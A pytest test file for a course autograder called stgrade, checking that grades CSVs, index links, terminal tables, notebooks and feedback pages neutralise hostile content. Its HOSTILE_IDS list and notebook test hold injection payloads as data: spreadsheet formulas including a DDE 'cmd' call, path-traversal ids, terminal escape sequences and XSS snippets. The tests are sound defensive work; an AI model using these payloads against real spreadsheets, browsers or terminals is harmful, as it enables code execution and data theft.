"""Output that reaches people is neutralised where it is written (issue 21).

One test per class, each failing when its protection is removed: spreadsheet formulas in
grades.csv, an id that makes an index.html link climb above OUT, terminal escape sequences in the
run's table, active outputs (JavaScript, HTML, SVG) in autograded notebooks, feedback that showed a
decoy cell instead of the cell that was graded, reports that failed on a lone surrogate, results
of unbounded size; and the smaller ones: ``stgrade release`` leaving ``stgrade-db-*`` folders, and
``make demo`` printing a "missing" line for every lesson its sample students never took.
"""

from __future__ import annotations

import csv
import json
import tempfile
from pathlib import Path
from urllib.parse import unquote, urljoin, urlparse

import nbformat
import pytest

from stgrade import feedback, neutral, report
from stgrade.assemble import assemble
from stgrade.cohorts import lesson_sources
from stgrade.course import REPO_ROOT, load_lesson
from stgrade.grading import CellResult, SubmissionResult, cap_result, graded_answers

LESSON = "04_gradient_clipping"
HOSTILE_IDS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
               "-2+3", "..\\..\\..\\etc", "../../outside", "a/b", "..", "\x1b]8;;http://x.example\x07hi\x1b]8;;\x07",
               "evil\x1b[2J\x1b[31mred", "bidi\u202etxt.exe", "surrogate\udcff", "ok_student"]


def _result(student: str, **kw) -> SubmissionResult:
    r = SubmissionResult(student, LESSON, kw.pop("status", "graded"), max_total=14.0, total=kw.pop("total", 3.0), **kw)
    r.cells = [CellResult("clip_grad_value_visible", 1.0, 1.0, "all checks passed", "passed")]
    return r


def test_grades_csv_cells_never_start_like_a_formula(tmp_path):
    results = [_result(s, reason="=1+1" if i == 0 else "") for i, s in enumerate(HOSTILE_IDS)]
    report.write_csv(results, {LESSON: ["clip_grad_value_visible"]}, tmp_path / "grades.csv")
    with (tmp_path / "grades.csv").open(encoding="utf-8") as f:
        rows = list(csv.reader(f))
    text_cells = [cell for row in rows[1:] for cell in row[:4]]
    assert not [c for c in text_cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text_cells
    assert rows[1][0].startswith("'=HYPERLINK")  # kept, readable, inert


def test_index_links_stay_inside_out_and_name_distinct_files(tmp_path):
    results = [_result(s) for s in HOSTILE_IDS]
    folders, _ = neutral.folder_names(s for s in HOSTILE_IDS)
    report.write_index(results, folders, tmp_path / "index.html")
    html = (tmp_path / "index.html").read_text(encoding="utf-8")
    import re

    links = re.findall(r"href='([^']*)'", html)
    pages = [link for link in links if link.startswith("feedback")]
    assert len(pages) == len(HOSTILE_IDS)
    for link in pages:  # as a browser resolves it: on the encoded path, then each segment decoded
        segments = urlparse(urljoin("file:///out/", link.replace("&amp;", "&"))).path.split("/")
        assert segments[:3] == ["", "out", "feedback"] and len(segments) == 5, (link, segments)
        assert unquote(segments[3]) in folders.values(), (link, segments)
    for student, folder in folders.items():
        assert "/" not in folder and "\\" not in folder and folder not in (".", "..") and folder.isascii(), folder
        page = feedback.write(_result(student), tmp_path / "feedback" / folder)
        assert page.resolve().parent.parent == (tmp_path / "feedback").resolve()
    assert len(set(folders.values())) == len(HOSTILE_IDS)


def test_ids_that_collide_on_case_insensitive_or_normalising_file_systems_get_distinct_folders():
    ids = ["Ana", "ana", "ANA", "Jos\u00e9", "Jose\u0301", "bob"]
    folders, collisions = neutral.folder_names(ids)
    assert {tuple(g) for g in collisions} == {("ANA", "Ana", "ana"), ("Jose\u0301", "Jos\u00e9")}
    assert len({neutral.collision_key(f) for f in folders.values()}) == len(ids), folders
    assert folders["bob"] == "bob"


def test_the_terminal_table_shows_escape_sequences_instead_of_sending_them():
    results = [_result(s, notes=["\x1b[2J\x1b[H cleared your screen"]) for s in HOSTILE_IDS]
    results.append(_result("quiet", status="missing", total=None))
    text = report.table(results)
    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text, repr(text)
    assert "\\x1b" in text and "not handed in: quiet" in text


def test_autograded_notebooks_keep_no_active_output():
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("x")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={
            "text/html": "<img src=x onerror=alert(1)><script>alert(2)</script><b>bold</b>",
            "application/javascript": "alert(3)", "image/svg+xml": "<svg onload=alert(4)></svg>",
            "text/markdown": "[x](javascript:alert(5))", "application/vnd.jupyter.widget-view+json": {"model_id": "m"},
            "text/plain": "plain", "image/png": "iVBORw0KGgo="}),
        nbformat.v4.new_output("stream", text="printed"),
    ]
    cell.metadata["trusted"] = True
    nb.cells.append(cell)
    neutral.sanitize_notebook(nb)
    data = nb.cells[0].outputs[0]["data"]
    assert set(data) == {"text/html", "text/plain", "image/png"}, set(data)
    assert "<script" not in data["text/html"] and "<img" not in data["text/html"], data["text/html"]  # inert text
    assert "trusted" not in nb.cells[0].metadata and nb.cells[0].outputs[1]["text"] == "printed"


def test_feedback_shows_the_cells_that_were_graded_not_a_decoy():
    src = lesson_sources(LESSON, REPO_ROOT)
    decoy = "def clip_grad_norm_(parameters, max_norm, norm_type=2.0, error_if_nonfinite=False):\n    # my own work\n    ..."
    real = "def clip_grad_norm_(parameters, max_norm, norm_type=2.0, error_if_nonfinite=False):\n    return HIDDEN_ROUTE()"
    nb = src.with_answers({**src.solutions, "clip_grad_norm": decoy})
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "clip_grad_norm")
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell(real))
    r = _result("someone")
    r.answers = graded_answers(assemble(load_lesson(LESSON), nb))
    page = feedback.render(r)
    assert "HIDDEN_ROUTE" in page and page.index("my own work") < page.index("HIDDEN_ROUTE")


def test_reports_are_written_whatever_the_content(tmp_path):
    r = _result("stud\udcffent", notes=["a note with a lone surrogate \ud800"], reason="\udcfe")
    r.cells[0].message = "message \udfff"
    r.answers = [["clip_grad_norm", "def f():\n    return '\ud83d'"]]
    cap_result(r)
    folders, _ = neutral.folder_names([r.student])
    feedback.write(r, tmp_path / "feedback" / folders[r.student])
    report.write_csv([r], {LESSON: ["clip_grad_value_visible"]}, tmp_path / "grades.csv")
    report.write_json([r], ["warning \udcff"], {}, tmp_path / "summary.json")
    report.write_index([r], folders, tmp_path / "index.html")
    for name in ("grades.csv", "summary.json", "index.html"):
        (tmp_path / name).read_text(encoding="utf-8")
    json.loads((tmp_path / "summary.json").read_text(encoding="utf-8"))


def test_one_result_is_bounded_whatever_the_function_returned():
    from stabletrain.exercises.base import describe_value

    huge = list(range(190_000))
    r = _result("big", notes=[f"note {i} " * 100 for i in range(500)], reason="x" * 10**6)
    r.cells[0].message = f"expected 1.0, got {describe_value(huge)}" + "y" * 10**6
    cap_result(r)
    size = len(json.dumps(r.to_json()))
    assert size < 100_000, size
    assert len(describe_value(huge)) < 1000


def test_release_leaves_no_gradebook_folders_behind(tmp_path, monkeypatch):
    from stgrade.release import generate

    tmp = tmp_path / "tmp"  # a temporary directory of its own: others may be releasing on this machine
    tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    generate(LESSON, tmp_path / "course")
    assert (tmp_path / "course" / LESSON / f"{LESSON}.ipynb").exists()
    assert list(tmp.iterdir()) == []


def test_the_demo_reports_missing_only_for_lessons_its_cohort_takes():
    from stgrade.samples import expected

    missing = [key for key, want in expected().items() if want.status == "missing"]
    assert missing == [("absent", LESSON)], missing
    rows = [_result(s, status="missing", total=None) for s in ("absent", "absent", "other")]
    rows[1].lesson = "05_batch_norm"
    table = report.table(rows)
    assert table.count("not handed in") == 2 and "absent: 04_gradient_clipping, 05_batch_norm" in table


@pytest.mark.parametrize("name", ["..", ".hidden", "", "a" * 400])
def test_odd_ids_make_one_safe_path_component(name):
    folder = neutral.folder_name(name)
    assert folder not in ("", ".", "..") and not folder.startswith(".") and "/" not in folder
    assert len(folder.encode()) <= 130
